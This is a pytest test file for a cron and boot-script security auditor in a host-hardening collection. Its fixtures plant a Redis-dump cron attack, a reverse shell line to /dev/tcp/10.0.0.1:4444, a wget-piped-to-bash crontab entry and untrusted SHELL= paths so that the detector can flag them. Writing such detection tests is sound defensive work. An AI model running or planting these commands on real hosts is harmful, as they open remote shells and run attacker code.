"""cron_audit logic on fixture trees: seed 000, both cron families, boot scripts, permissions."""
import json
import os

import pytest

from ansible_collections.hostguard.hardening.plugins.module_utils.cron import audit as cron
from cron_tree import (ALICE, BOB, CRONTAB_GID, RDB_HEAD, base_tree, install_family, mkdir, seed_000,
                       symlink, write)


def run(root, **opts):
    opts["root"] = str(root)
    result = cron.audit(opts)
    json.dumps(result)          # what Ansible must be able to serialise
    return result


def failed(result, check_id=None, subject=None):
    return [f for f in result["findings"]
            if f["status"] == "fail" and (check_id is None or f["id"] == check_id)
            and (subject is None or f["subject"] == subject)]


def entry(result, path):
    matches = [f for f in result["files"] if f["path"] == path]
    assert matches, "no inventory entry for %s" % path
    return matches[0]


# --------------------------------------------------------------------------- seed 000
def test_seed_000_redis_dump_in_cronie_spool(tmp_path):
    seed_000(tmp_path)
    result = run(tmp_path)
    rdb = failed(result, "HG-CRON-001", "/var/spool/cron/dump.rdb")
    assert len(rdb) == 1
    finding = rdb[0]
    assert finding["severity"] == "critical"
    assert finding["evidence"]["magic"] == "REDIS0009"
    assert finding["evidence"]["rdb_version"] == "0009"
    assert finding["evidence"]["redis_ver"] == "7.0.15"
    assert finding["evidence"]["size"] == os.path.getsize(str(tmp_path / "var/spool/cron/dump.rdb"))
    assert finding["evidence"]["would_run"] == []
    assert finding["references"]["attack"] == "T1053.003"
    assert finding["references"]["lynis"] == "SCHD-7704"
    assert "cron_hygiene" in finding["remediation"]
    # the name is no user: a foreign file that never runs
    orphan = failed(result, "HG-CRON-003", "/var/spool/cron/dump.rdb")
    assert len(orphan) == 1 and orphan[0]["evidence"]["family"] == "cronie"
    # an RDB is reported as an RDB, not as generic binary
    assert failed(result, "HG-CRON-002", "/var/spool/cron/dump.rdb") == []
    # the attack payload inside the dump is found by the line scanner
    bad = failed(result, "HG-CRON-010", "/var/spool/cron/dump.rdb")
    assert bad and bad[0]["evidence"]["pattern"] == "download_piped_to_shell"
    rec = entry(result, "/var/spool/cron/dump.rdb")
    assert rec["content"] == "redis_rdb"
    assert rec["would_run"]["cronie"]["would_run"] is False
    assert rec["would_run"]["cronie"]["code"] == "ORPHAN"
    assert rec["would_run"]["debian"]["code"] == "NOT_THIS_FAMILY"
    assert len(rec["sha256"]) == 64


def test_seed_000_large_dump_reads_only_the_head(tmp_path):
    seed_000(tmp_path, size=64 << 20)
    result = run(tmp_path, max_read_bytes=65536)
    rec = entry(result, "/var/spool/cron/dump.rdb")
    assert rec["scanned_bytes"] == 65536
    assert "sha256" not in rec and len(rec["sha256_head"]) == 64
    assert rec["size"] == 64 << 20
    assert failed(result, "HG-CRON-001", "/var/spool/cron/dump.rdb")
    over = failed(result, "HG-CRON-005", "/var/spool/cron/dump.rdb")
    assert over and over[0]["evidence"]["oversized"] is True
    assert result["facts"]["bytes_read"] < 2 * 65536 + 65536


def test_rdb_in_a_boot_directory_says_who_runs_it(tmp_path):
    base_tree(tmp_path)
    write(tmp_path, "etc/rc.d/init.d/backup", RDB_HEAD + b"\x00" * 100, mode=0o755)
    result = run(tmp_path)
    finding = failed(result, "HG-CRON-001", "/etc/rc.d/init.d/backup")[0]
    assert finding["evidence"]["would_run"] == ["cronie", "debian"]


# --------------------------------------------------------------------------- cronie
@pytest.mark.parametrize("mode,uid,nlink,expect", [
    (0o600, ALICE, 1, (True, "ACCEPTED")),
    (0o644, ALICE, 1, (True, "ACCEPTED")),          # (0644 & 07533) == 0400
    (0o600, 0, 1, (True, "ACCEPTED")),              # root may own a user's crontab
    (0o700, ALICE, 1, (False, "BAD_FILE_MODE")),    # owner x bit
    (0o664, ALICE, 1, (False, "BAD_FILE_MODE")),    # group writable
    (0o4600, ALICE, 1, (False, "BAD_FILE_MODE")),   # setuid
    (0o600, BOB, 1, (False, "WRONG_FILE_OWNER")),
    (0o600, ALICE, 2, (False, "BAD_LINK_COUNT")),
])
def test_cronie_spool_rules(tmp_path, mode, uid, nlink, expect):
    base_tree(tmp_path)
    path = write(tmp_path, "var/spool/cron/alice", "*/5 * * * * /usr/bin/true\n", mode=mode, uid=uid, gid=ALICE)
    if nlink == 2:
        os.link(path, str(tmp_path / "home-alice-copy"))
    result = run(tmp_path)
    verdict = entry(result, "/var/spool/cron/alice")["would_run"]["cronie"]
    assert (verdict["would_run"], verdict["code"]) == expect
    assert verdict["reason"]
    assert entry(result, "/var/spool/cron/alice")["would_run"]["debian"]["code"] == "NOT_THIS_FAMILY"
    rejected = [f for f in failed(result, "HG-CRON-009", "/var/spool/cron/alice")
                if f["evidence"]["family"] == "cronie"]
    assert bool(rejected) == (not expect[0])
    assert failed(result, "HG-CRON-003") == []


def test_cronie_spool_skips_names_and_keeps_debian_dirs_quiet(tmp_path):
    base_tree(tmp_path)
    write(tmp_path, "var/spool/cron/alice~", "x\n", mode=0o600, uid=ALICE)
    write(tmp_path, "var/spool/cron/.cron.hostname", "h\n", mode=0o600)
    mkdir(tmp_path, "var/spool/cron/crontabs", mode=0o1730, gid=CRONTAB_GID)
    result = run(tmp_path)
    assert entry(result, "/var/spool/cron/alice~")["would_run"]["cronie"]["code"] == "LEFTOVER_NAME"
    assert failed(result, "HG-CRON-003") == []        # skipped names and the crontabs dir are not foreign
    assert failed(result, "HG-CRON-011", "/var/spool/cron/crontabs") == []   # Debian's stock 1730 root:crontab


# --------------------------------------------------------------------------- Debian
@pytest.mark.parametrize("mode,uid,expect", [
    (0o600, ALICE, (True, "ACCEPTED")),
    (0o600, 0, (True, "ACCEPTED")),
    (0o644, ALICE, (False, "INSECURE_MODE")),       # exactly 0600 expected
    (0o400, ALICE, (False, "INSECURE_MODE")),
    (0o600, BOB, (False, "WRONG_FILE_OWNER")),
])
def test_debian_spool_rules(tmp_path, mode, uid, expect):
    base_tree(tmp_path)
    mkdir(tmp_path, "var/spool/cron/crontabs", mode=0o1730, gid=CRONTAB_GID)
    write(tmp_path, "var/spool/cron/crontabs/alice", "0 1 * * * /usr/bin/true\n", mode=mode, uid=uid,
          gid=CRONTAB_GID)
    result = run(tmp_path)
    rec = entry(result, "/var/spool/cron/crontabs/alice")
    assert (rec["would_run"]["debian"]["would_run"], rec["would_run"]["debian"]["code"]) == expect
    assert rec["would_run"]["cronie"]["code"] == "NOT_THIS_FAMILY"
    assert rec["owner"] == {ALICE: "alice", BOB: "bob", 0: "root"}[uid]
    assert rec["group"] == "crontab"


def test_debian_spool_symlink_orphan_and_tmp(tmp_path):
    base_tree(tmp_path)
    mkdir(tmp_path, "var/spool/cron/crontabs", mode=0o1730, gid=CRONTAB_GID)
    write(tmp_path, "var/spool/cron/crontabs/real", "0 1 * * * /bin/true\n", mode=0o600, uid=ALICE)
    symlink(tmp_path, "var/spool/cron/crontabs/alice", "real")
    write(tmp_path, "var/spool/cron/crontabs/tmp.12345", "x\n", mode=0o600)
    result = run(tmp_path)
    assert entry(result, "/var/spool/cron/crontabs/alice")["would_run"]["debian"]["code"] == "SYMLINK_REFUSED"
    assert entry(result, "/var/spool/cron/crontabs/tmp.12345")["would_run"]["debian"]["code"] == "LEFTOVER_NAME"
    orphans = [f["subject"] for f in failed(result, "HG-CRON-003")]
    assert orphans == ["/var/spool/cron/crontabs/real"]


# --------------------------------------------------------------------------- /etc/cron.d and /etc/crontab
@pytest.mark.parametrize("name,mode,uid,cronie_code,debian_code", [
    ("backup", 0o644, 0, "ACCEPTED", "ACCEPTED"),
    ("backup.sh", 0o644, 0, "ACCEPTED", "NAME_SKIPPED"),         # Debian: ^[a-zA-Z0-9_-]+$
    ("backup.dpkg-old", 0o644, 0, "ACCEPTED", "LEFTOVER_NAME"),
    ("backup~", 0o644, 0, "LEFTOVER_NAME", "LEFTOVER_NAME"),
    ("backup", 0o755, 0, "BAD_FILE_MODE", "ACCEPTED"),           # cronie refuses the owner x bit
    ("backup", 0o664, 0, "BAD_FILE_MODE", "INSECURE_MODE"),
    ("backup", 0o644, ALICE, "WRONG_FILE_OWNER", "WRONG_FILE_OWNER"),
])
def test_crond_rules(tmp_path, name, mode, uid, cronie_code, debian_code):
    base_tree(tmp_path)
    write(tmp_path, "etc/cron.d/" + name, "0 2 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n",
          mode=mode, uid=uid)
    result = run(tmp_path)
    rec = entry(result, "/etc/cron.d/" + name)
    assert rec["would_run"]["cronie"]["code"] == cronie_code
    assert rec["would_run"]["debian"]["code"] == debian_code
    assert rec["would_run"]["cronie"]["would_run"] is (cronie_code == "ACCEPTED")


def test_crond_symlink_owner_rules(tmp_path):
    base_tree(tmp_path)
    write(tmp_path, "usr/share/pkg/job", "0 2 * * * root /bin/true\n")
    symlink(tmp_path, "etc/cron.d/pkgjob", "/usr/share/pkg/job")
    link = symlink(tmp_path, "etc/cron.d/userlink", "/usr/share/pkg/job")
    os.lchown(link, ALICE, ALICE)
    result = run(tmp_path)
    assert entry(result, "/etc/cron.d/pkgjob")["would_run"]["debian"]["code"] == "ACCEPTED"
    assert entry(result, "/etc/cron.d/pkgjob")["would_run"]["cronie"]["code"] == "ACCEPTED"
    assert entry(result, "/etc/cron.d/pkgjob")["symlink"]["resolved"] == "/usr/share/pkg/job"
    assert entry(result, "/etc/cron.d/userlink")["would_run"]["debian"]["code"] == "WRONG_SYMLINK_OWNER"


def test_rejections_reported_only_for_installed_family(tmp_path):
    base_tree(tmp_path)
    install_family(tmp_path, "debian")
    write(tmp_path, "etc/cron.d/mode755", "0 2 * * * root /bin/true\n", mode=0o755)   # only cronie rejects
    write(tmp_path, "etc/cron.d/job.sh", "0 2 * * * root /bin/true\n")               # only Debian rejects
    result = run(tmp_path)
    assert result["facts"]["families_installed"] == ["debian"]
    assert failed(result, "HG-CRON-009", "/etc/cron.d/mode755") == []
    skipped = failed(result, "HG-CRON-009", "/etc/cron.d/job.sh")
    assert skipped and skipped[0]["evidence"]["family"] == "debian"
    assert skipped[0]["severity"] == "low"


def test_debian_lsb_names_from_default_cron(tmp_path):
    base_tree(tmp_path)
    write(tmp_path, "etc/default/cron", 'EXTRA_OPTS="-l"\n')
    write(tmp_path, "etc/cron.d/My_Job", "0 2 * * * root /bin/true\n")
    result = run(tmp_path)
    assert result["facts"]["debian_lsb_names"] is True
    assert entry(result, "/etc/cron.d/My_Job")["would_run"]["debian"]["code"] == "NAME_SKIPPED"


# --------------------------------------------------------------------------- run-parts
def test_runparts_rules(tmp_path):
    base_tree(tmp_path)
    write(tmp_path, "etc/cron.daily/logrotate", "#!/bin/sh\nexit 0\n", mode=0o755)
    write(tmp_path, "etc/cron.daily/backup.sh", "#!/bin/sh\nexit 0\n", mode=0o755)
    write(tmp_path, "etc/cron.daily/noexec", "#!/bin/sh\nexit 0\n", mode=0o644)
    write(tmp_path, "etc/cron.daily/foreign", "#!/bin/sh\nexit 0\n", mode=0o755, uid=ALICE)
    write(tmp_path, "etc/cron.hourly/denied", "#!/bin/sh\nexit 0\n", mode=0o755)
    write(tmp_path, "etc/cron.hourly/jobs.deny", "denied\n")
    result = run(tmp_path)

    def wr(path):
        return dict((k, v["code"]) for k, v in entry(result, path)["would_run"].items())
    assert wr("/etc/cron.daily/logrotate") == {"cronie": "ACCEPTED", "debian": "ACCEPTED"}
    assert wr("/etc/cron.daily/backup.sh") == {"cronie": "ACCEPTED", "debian": "NAME_SKIPPED"}
    assert wr("/etc/cron.daily/noexec") == {"cronie": "NOT_EXECUTABLE", "debian": "NOT_EXECUTABLE"}
    # run-parts does not check the owner: the file runs, and it is writable by alice
    assert wr("/etc/cron.daily/foreign") == {"cronie": "ACCEPTED", "debian": "ACCEPTED"}
    writable = failed(result, "HG-CRON-011", "/etc/cron.daily/foreign")
    assert writable and writable[0]["severity"] == "high"
    assert writable[0]["evidence"]["would_run"] == ["cronie", "debian"]
    assert wr("/etc/cron.hourly/denied")["cronie"] == "DENIED"
    assert wr("/etc/cron.hourly/denied")["debian"] == "ACCEPTED"


# --------------------------------------------------------------------------- boot scripts
def test_boot_scripts_run_whatever_their_name(tmp_path):
    base_tree(tmp_path)
    write(tmp_path, "etc/rc.local", "#!/bin/sh -e\nexit 0\n", mode=0o755)
    write(tmp_path, "etc/rc.d/init.d/network", "#!/bin/bash\n# chkconfig: 2345 10 90\n", mode=0o755)
    symlink(tmp_path, "etc/rc.d/rc3.d/S10network", "../init.d/network")
    write(tmp_path, "etc/rc.d/init.d/dump.rdb", "#!/bin/sh\n", mode=0o755)
    write(tmp_path, "etc/rc.d/init.d/.x", "#!/bin/sh\n", mode=0o755)
    write(tmp_path, "etc/init.d/noshebang", "echo hi\n", mode=0o755)
    write(tmp_path, "etc/init.d/elfbin", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64, mode=0o755)
    write(tmp_path, "etc/init.d/README", "text\n", mode=0o644)
    result = run(tmp_path)
    for path in ("/etc/rc.local", "/etc/rc.d/init.d/network", "/etc/rc.d/rc3.d/S10network",
                 "/etc/rc.d/init.d/dump.rdb"):
        assert entry(result, path)["would_run"]["debian"]["would_run"] is True, path
        assert failed(result, "HG-CRON-004", path) == [], path
    assert entry(result, "/etc/init.d/README")["would_run"]["cronie"]["code"] == "NOT_EXECUTABLE"
    why = dict((f["subject"], f["evidence"]["why"]) for f in failed(result, "HG-CRON-004"))
    assert set(why) == {"/etc/rc.d/init.d/.x", "/etc/init.d/noshebang", "/etc/init.d/elfbin"}
    assert "hidden name" in why["/etc/rc.d/init.d/.x"]
    assert failed(result, "HG-CRON-002", "/etc/init.d/elfbin")


def test_rc_d_recursion_is_bounded(tmp_path):
    base_tree(tmp_path)
    deep = "etc/rc.d/" + "/".join("d%d" % i for i in range(8))
    write(tmp_path, deep + "/payload", "#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", mode=0o755)
    result = run(tmp_path, max_depth=2)
    assert not [f for f in result["files"] if f["path"].endswith("/payload")]
    result = run(tmp_path, max_depth=10)
    assert failed(result, "HG-CRON-010", "/" + deep + "/payload")


# --------------------------------------------------------------------------- permissions
def test_writable_directories_and_files(tmp_path):
    base_tree(tmp_path)
    os.chmod(str(tmp_path / "etc/cron.d"), 0o777)
    write(tmp_path, "etc/crontab", "0 * * * * root /bin/true\n", mode=0o666)
    write(tmp_path, "etc/cron.d/grp", "0 * * * * root /bin/true\n", mode=0o664)
    write(tmp_path, "var/spool/cron/alice", "0 * * * * /bin/true\n", mode=0o600, uid=ALICE)
    result = run(tmp_path)
    subjects = dict((f["subject"], f) for f in failed(result, "HG-CRON-011"))
    assert subjects["/etc/cron.d"]["severity"] == "high"
    assert "world-writable" in subjects["/etc/cron.d"]["evidence"]["problems"]
    assert subjects["/etc/crontab"]["severity"] == "high"
    assert subjects["/etc/cron.d/grp"]["severity"] == "medium"
    assert "/var/spool/cron/alice" not in subjects          # a user owning its own crontab is normal
    assert entry(result, "/etc/crontab")["would_run"]["debian"]["code"] == "INSECURE_MODE"


# --------------------------------------------------------------------------- misc
def test_passes_when_clean_and_catalogue_complete(tmp_path):
    base_tree(tmp_path)
    result = run(tmp_path)
    assert failed(result) == []
    ids = sorted(f["id"] for f in result["findings"] if f["status"] == "pass")
    assert ids == sorted(cron.CHECKS.ids())
    assert "HG-CRON-001" in ids and "HG-CRON-010" in ids
    assert cron.CHECKS["HG-CRON-001"].title == "Redis RDB dump in a cron or boot directory"
    assert cron.CHECKS["HG-CRON-010"].title == "Malicious command line in a cron or boot file"


def test_extra_paths_and_missing_locations(tmp_path):
    write(tmp_path, "etc/passwd", "root:x:0:0::/root:/bin/sh\n")
    write(tmp_path, "opt/jobs/run", "* * * * * wget -qO- http://x/y | bash\n")
    result = run(tmp_path, extra_paths=["/opt/jobs"])
    bad = failed(result, "HG-CRON-010", "/opt/jobs/run")
    assert bad and entry(result, "/opt/jobs/run")["would_run"]["debian"]["would_run"] is None


@pytest.mark.parametrize("opts", [
    {"max_read_bytes": 0}, {"max_entries": -1}, {"max_line_bytes": "x"}, {"extra_paths": ["relative"]},
])
def test_invalid_options_raise_clear_errors(tmp_path, opts):
    with pytest.raises(ValueError):
        cron.audit(dict(opts, root=str(tmp_path)))


def test_root_must_exist(tmp_path):
    with pytest.raises(ValueError, match="not a directory"):
        cron.audit({"root": str(tmp_path / "nope")})


# --------------------------------------------------------------------------- SHELL= lines
@pytest.mark.parametrize("rel,line,why", [
    ("etc/crontab", "SHELL=/tmp/.x/sh", "in a world-writable temp directory"),
    ("etc/cron.d/job", 'SHELL = "/dev/shm/sh"', "in a world-writable temp directory"),
    ("var/spool/cron/alice", "SHELL=.x/sh", "not an absolute path"),
    ("var/spool/cron/alice", "SHELL=sh", "not an absolute path"),
    ("etc/cron.d/job", "SHELL=/usr/lib/.cache/bash", "a hidden or relative path component"),
    ("etc/cron.d/job", "SHELL=/bin/../tmp/x/sh", "a hidden or relative path component"),
    ("etc/crontab", "SHELL=/usr/local/bin/kworker", "not a known shell"),
])
def test_untrusted_crontab_shell_is_a_malicious_line(tmp_path, rel, line, why):
    """Every later job of the crontab runs through SHELL (Debian cron, cronie, busybox crond)."""
    base_tree(tmp_path)
    uid = ALICE if "spool" in rel else 0
    write(tmp_path, rel, "%s\n17 * * * * %s/usr/bin/true\n" % (line, "" if uid else "root "),
          mode=0o600 if uid else 0o644, uid=uid, gid=uid)
    bad = failed(run(tmp_path), "HG-CRON-010", "/" + rel)
    assert bad and bad[0]["severity"] == "critical"
    ev = bad[0]["evidence"]
    assert ev["pattern"] == "crontab_shell_untrusted" and ev["line"] == 1
    assert why in ev["why"] and "cronie" in ev["why"] and "Debian cron" in ev["why"]
    # busybox crond takes only a first token ``SHELL=value`` (no blanks, no quotes removed)
    assert ("busybox crond" in ev["why"]) == line.startswith("SHELL=")
    assert why in bad[0]["detail"]


@pytest.mark.parametrize("line", ["SHELL=/bin/sh", "SHELL=/bin/bash", 'SHELL="/usr/bin/zsh"', "SHELL=/usr/bin/pwsh", "SHELL=/bin/ksh93", "SHELL=",
                                  "SHELLX=/tmp/x", "# SHELL=/tmp/x"])
def test_trusted_crontab_shell_is_not_flagged(tmp_path, line):
    base_tree(tmp_path)
    write(tmp_path, "etc/cron.d/job", "%s\n17 * * * * root /usr/bin/true\n" % line)
    assert failed(run(tmp_path), "HG-CRON-010") == []


def test_shell_line_outside_a_crontab_is_not_a_cron_shell(tmp_path):
    """A SHELL= line in a run-parts script is a shell variable, no cron environment line."""
    base_tree(tmp_path)
    write(tmp_path, "etc/cron.daily/job", "#!/bin/sh\nSHELL=/tmp/x\n", mode=0o755)
    assert failed(run(tmp_path), "HG-CRON-010") == []
